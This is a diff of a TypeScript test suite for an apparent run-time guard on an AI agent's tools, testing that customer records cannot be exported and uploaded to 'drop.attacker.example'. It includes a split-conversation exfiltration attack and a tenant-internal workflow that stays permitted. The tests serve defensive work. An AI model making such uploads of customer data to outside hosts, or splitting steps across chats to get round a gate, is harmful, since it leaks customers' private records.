@@ -5,7 +5,6 @@ import {
   type DecisionRecord,
   InMemoryEvidenceRecorder,
   InMemoryTrajectoryStore,
-  MissingTrajectoryError,
   type TrajectoryStore,
   VerdictConfigurationError,
   VerdictModule,
@@ -13,7 +12,7 @@ import {
   VerdictService,
 } from '@verdict/nestjs';
 import { DataSource } from 'typeorm';
-import { RecordsCapabilities, RecordsCapability, StorefrontAbilityFactory, openSqliteStorefront, storefrontContext } from '../index.js';
+import { RecordsCapabilities, RecordsCapability, RecordsExport, StorefrontAbilityFactory, openSqliteStorefront, storefrontContext } from '../index.js';
 
 const cleanups: Array<() => Promise<void>> = [];
 afterEach(async () => {
@@ -42,14 +41,14 @@ async function boot({ trajectories }: { trajectories?: TrajectoryStore } = { tra
   /** The migration bridge: the capability's checks (steps 1–3, 10a, 11, 13) around a legacy handler. */
   const guarded = (conversation: string, capability: string, args: object, handler: () => Promise<string>) =>
     contexts.run(storefrontContext(72, 'acme', conversation), () => pipeline.guard({ capability, arguments: args }, handler));
-  return { call, outbox, evidence, guarded };
+  return { call, outbox, evidence, guarded, dataSource };
 }
 
 const steps = (host: string, to: string): Array<[string, object]> => [
   [RecordsCapability.ReadRecords, {}],
   [RecordsCapability.ExportRecords, {}],
   [RecordsCapability.UploadExport, { host }],
-  [RecordsCapability.SendLink, { to, link: `https://${host}/shared/records-72.zip` }],
+  [RecordsCapability.SendLink, { to, link: `https://${host}/shared/records-72-1.zip` }],
 ];
 
 describe('RecordsCapabilities with forbidStates (the run-time trajectory gate)', () => {
@@ -78,24 +77,47 @@ describe('RecordsCapabilities with forbidStates (the run-time trajectory gate)',
     expect(outbox.list()).toHaveLength(2);
   });
 
-  it('is order-sensitive: an upload before the records were read and exported holds no records', async () => {
+  it('has nothing to upload before an export: the upload is denied at the proposal and nothing leaves', async () => {
     const { call, outbox } = await boot();
-    expect(await call('c', RecordsCapability.UploadExport, { host: 'drop.attacker.example' })).toBe('executed');
-    expect(await call('c', RecordsCapability.ReadRecords)).toBe('executed');
-    expect(await call('c', RecordsCapability.ExportRecords)).toBe('executed');
-    expect(await call('c', RecordsCapability.UploadExport, { host: 'drop.attacker.example' })).toBe('execution: forbidden state: customer_records_exfiltrated');
-    expect(outbox.external()).toHaveLength(1);
+    expect(await call('c', RecordsCapability.UploadExport, { host: 'drop.attacker.example' })).toBe('proposal: the customer has no export to upload');
+    expect(outbox.list()).toEqual([]);
   });
 
-  it('folds each conversation on its own: records read in one conversation do not taint another', async () => {
-    const { call } = await boot();
+  it('refuses the split-conversation attack: records exported in one conversation never leave from another', async () => {
+    const { call, outbox } = await boot();
     await call('first', RecordsCapability.ReadRecords);
     await call('first', RecordsCapability.ExportRecords);
 
-    expect(await call('second', RecordsCapability.UploadExport, { host: 'drop.attacker.example' })).toBe('executed');
-    expect(await call('first', RecordsCapability.UploadExport, { host: 'drop.attacker.example' })).toBe(
+    expect(await call('second', RecordsCapability.UploadExport, { host: 'drop.attacker.example' })).toBe(
       'execution: forbidden state: customer_records_exfiltrated',
     );
+    // Nor from a call that names no conversation at all: the customer's scope outlives every chat.
+    expect(await call(undefined, RecordsCapability.UploadExport, { host: 'drop.attacker.example' })).toBe(
+      'execution: forbidden state: customer_records_exfiltrated',
+    );
+    expect(outbox.external()).toEqual([]);
+  });
+
+  it('permits the legitimate cross-conversation workflow: exported in one chat, shared inside the tenant from the next', async () => {
+    const { call, outbox } = await boot();
+    expect(await call('first', RecordsCapability.ReadRecords)).toBe('executed');
+    expect(await call('first', RecordsCapability.ExportRecords)).toBe('executed');
+    expect(await call('second', RecordsCapability.UploadExport, { host: 'files.acme.example' })).toBe('executed');
+    expect(await call('second', RecordsCapability.SendLink, { to: 'colleague@acme.example', link: 'https://files.acme.example/shared/records-72-1.zip' })).toBe(
+      'executed',
+    );
+    expect(outbox.external()).toEqual([]);
+    expect(outbox.list().map((item) => item.kind)).toEqual(['upload', 'message']);
+  });
+
+  it('reads what the archive holds from the trusted export row: an archive without records may leave', async () => {
+    const { call, outbox, dataSource } = await boot();
+    await call('c', RecordsCapability.ReadRecords);
+    // An archive the server packed without customer records (say, a public price list): the row says so.
+    await dataSource.getRepository(RecordsExport).insert({ tenantId: 'acme', customerId: 72, archive: 'price-list.zip', holdsCustomerRecords: false });
+
+    expect(await call('c', RecordsCapability.UploadExport, { host: 'partner.example' })).toBe('executed');
+    expect(outbox.external().map((item) => item.reference)).toEqual(['https://partner.example/shared/price-list.zip']);
   });
 
   it('keeps denying: a refused effect is not stored, and the forbidden step stays forbidden on every retry', async () => {
@@ -119,12 +141,6 @@ describe('RecordsCapabilities with forbidStates (the run-time trajectory gate)',
 
     expect(result).toMatchObject({ executed: false, decision: { stage: 'execution', reason: 'forbidden state: customer_records_exfiltrated' } });
     expect(legacyUploads).toBe(0);
-  });
-
-  it('fails as a wiring fault, never a decision, when the context names no conversation', async () => {
-    const { call, outbox } = await boot();
-    await expect(call(undefined, RecordsCapability.ReadRecords)).rejects.toBeInstanceOf(MissingTrajectoryError);
-    expect(outbox.list()).toEqual([]);
   });
 
   it('refuses to boot without a trajectory store', async () => {
